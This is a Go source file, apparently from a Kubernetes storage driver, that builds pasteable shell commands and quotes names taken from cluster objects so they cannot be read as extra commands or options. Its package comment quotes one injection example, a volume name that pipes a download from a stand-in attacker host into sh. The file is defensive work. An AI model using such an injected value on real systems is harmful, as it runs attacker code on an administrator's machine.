// Package shell writes commands of a POSIX shell that an administrator can paste.
//
// Names in objects and events are written by other parties, and the API server does not check all of
// them: spec.volumeName of a claim may be `x; curl evil.example|sh #`. No such text may become a
// second command, a second word or an option.
//
// It must not know any object or command.
package shell

import (
	"strings"

	"github.com/purser-csi/purser/internal/printable"
)

// Line is a command for a shell. Only constants and the functions of this package are Lines: test/house
// refuses conversions, and the compiler the concatenation with another string.
type Line string

// template is a type that only a constant gets outside of this package.
type template string

// Placeholder stands in place of an operand that no object can have as its name. No object has the
// name Placeholder either.
const Placeholder = "NAME"

// Command fills the operands into a template, one for each %s. Words are separated by single spaces. A word
// without %s is written as it is and may be quoted, or be | or &&. A word with %s stays one word and is
// quoted where a shell would read it differently; its template has no quotes.
func Command(t template, operands ...string) Line {
	words := strings.Split(string(t), " ")
	for i, word := range words {
		parts := strings.Split(word, "%s")
		if len(parts) == 1 {
			continue
		}
		var filled strings.Builder
		filled.WriteString(parts[0])
		for _, after := range parts[1:] {
			operand := ""
			if len(operands) > 0 {
				operand, operands = operands[0], operands[1:]
			}
			filled.WriteString(nameOf(operand, filled.Len() == 0) + after)
		}
		words[i] = Quote(filled.String())
	}
	return Line(strings.Join(words, " "))
}

// With appends names to the command, one word each.
func (l Line) With(names ...string) Line {
	for _, name := range names {
		l += Line(" " + Quote(nameOf(name, true)))
	}
	return l
}

// In appends the option of kubectl for a namespace; none for an object without one.
func (l Line) In(namespace string) Line {
	if namespace == "" {
		return l
	}
	return l + " -n" + Line("").With(namespace)
}

// nameOf returns an operand in one printable line. One that is empty, or begins an option at the start of a
// word, is replaced by the placeholder: no name of the API is so.
func nameOf(operand string, startsWord bool) string {
	if operand == "" || startsWord && operand[0] == '-' {
		return Placeholder
	}
	return printable.Line(operand)
}

// plain are the characters besides letters and digits that no shell acts on within a word.
const plain = "._:/=@-"

// Quote returns a word for a shell: in single quotes if it has a character that a shell may act on.
func Quote(word string) string {
	isSpecial := func(r rune) bool {
		return (r < 'a' || r > 'z') && (r < 'A' || r > 'Z') && (r < '0' || r > '9') && !strings.ContainsRune(plain, r)
	}
	if word != "" && word[0] != '=' && strings.IndexFunc(word, isSpecial) < 0 { // zsh expands =word
		return word
	}
	return "'" + strings.ReplaceAll(word, "'", `'\''`) + "'"
}
